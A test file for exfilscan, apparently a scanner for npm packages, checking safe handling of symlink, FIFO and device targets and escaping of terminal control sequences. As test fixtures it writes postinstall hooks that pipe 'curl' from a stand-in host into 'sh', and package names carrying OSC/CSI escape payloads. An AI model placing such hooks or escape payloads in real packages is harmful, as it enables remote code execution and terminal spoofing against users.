// Issue #16, parts 3 and 4: top-level targets are read with lstat (no symlink, device or
// FIFO is opened) and nothing from the input reaches a terminal raw.
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { renderText } from "../../src/report/text.js";
import { terminalSafe } from "../../src/report/terminal.js";
import { runCli } from "../helpers/cli.js";

const root = mkdtempSync(join(tmpdir(), "exfilscan-targets-"));
afterAll(() => rmSync(root, { recursive: true, force: true }));

const ESC = "\u001b";

describe("top-level targets", () => {
  it("refuses symlinks, FIFOs and devices, and still reports the other targets", () => {
    const good = join(root, "good");
    mkdirSync(good);
    writeFileSync(join(good, "package.json"), JSON.stringify({ name: "good-pkg", version: "1.2.3", scripts: { postinstall: "curl -s http://x.example.invalid/a | sh" } }));
    symlinkSync("/etc", join(root, "etc-link"));
    symlinkSync("/dev/zero", join(root, "zero.js"));
    execFileSync("mkfifo", [join(root, "pipe.js")]);
    const result = runCli(["scan", join(root, "etc-link"), join(root, "zero.js"), join(root, "pipe.js"), "/dev/zero", good, "--format", "json"]);
    const report = JSON.parse(result.stdout) as { targets: { name?: string }[]; errors: { input: string; message: string }[]; findings: unknown[] };
    expect(report.targets.map((t) => t.name)).toEqual(["good-pkg"]);
    expect(report.findings.length).toBeGreaterThan(0);
    const byInput = Object.fromEntries(report.errors.map((e) => [e.input.replace(`${root}/`, ""), e.message]));
    expect(byInput["etc-link"]).toMatch(/symbolic link: not followed/);
    expect(byInput["zero.js"]).toMatch(/symbolic link: not followed/);
    expect(byInput["pipe.js"]).toMatch(/not a regular file or directory/);
    expect(byInput["/dev/zero"]).toMatch(/not a regular file or directory/);
  });
});

describe("terminal injection", () => {
  const hostileName = `evil${ESC}]0;owned${"\u0007"}${ESC}[2J\n0 critical, 0 high`;

  it("escapes control characters, OSC/CSI sequences and newlines", () => {
    expect(terminalSafe(`a${ESC}[2Jb\nc\r\u0007\u009b\u202e`)).toBe("a\\e[2Jb\\nc\\r\\u0007\\u009b\\u202e");
    expect(terminalSafe("plain name@1.0.0 ünïcode")).toBe("plain name@1.0.0 ünïcode");
  });

  it("prints package names, versions, files and errors from the input escaped, in text and on stderr", () => {
    const dir = join(root, "hostile-names");
    mkdirSync(join(dir, "lib"), { recursive: true });
    writeFileSync(join(dir, "package.json"), JSON.stringify({ name: hostileName, version: `1.0.0${ESC}[31m`, scripts: { postinstall: `node lib/${ESC}[2Jx.js` } }));
    writeFileSync(join(dir, "lib", `${ESC}[2Jx.js`), 'require("child_process").exec("curl -s http://x.example.invalid/a | sh");\n');
    symlinkSync("/etc/passwd", join(dir, `link${ESC}]0;t${"\u0007"}`));
    const result = runCli(["scan", dir, "--format", "text", "--no-color"]);
    expect(result.stdout).toContain("install-time-network");
    expect(result.stdout).toContain("evil\\e]0;owned\\u0007\\e[2J\\n0 critical");
    expect(result.stdout + result.stderr).not.toContain(ESC);
    expect(result.stdout + result.stderr).not.toContain("\u0007");
    // The forged summary line never starts a line of its own.
    expect(result.stdout.split("\n").filter((l) => l.startsWith("0 critical"))).toEqual([]);
  });

  it("escapes the text reporter's fields even when called directly", () => {
    const text = renderText(
      {
        schemaVersion: 1,
        tool: { name: "exfilscan", version: "0" },
        targets: [],
        findings: [],
        errors: [{ input: `in${ESC}[2J`, file: `f\n`, message: `m${ESC}]52;c;AAAA${"\u0007"}` }],
        summary: { critical: 0, high: 0, medium: 0, low: 0, info: 0 },
      },
      { color: false },
    );
    expect(text).not.toContain(ESC);
    expect(text).toContain("in\\e[2J (f\\n): m\\e]52;c;AAAA\\u0007");
  });
});
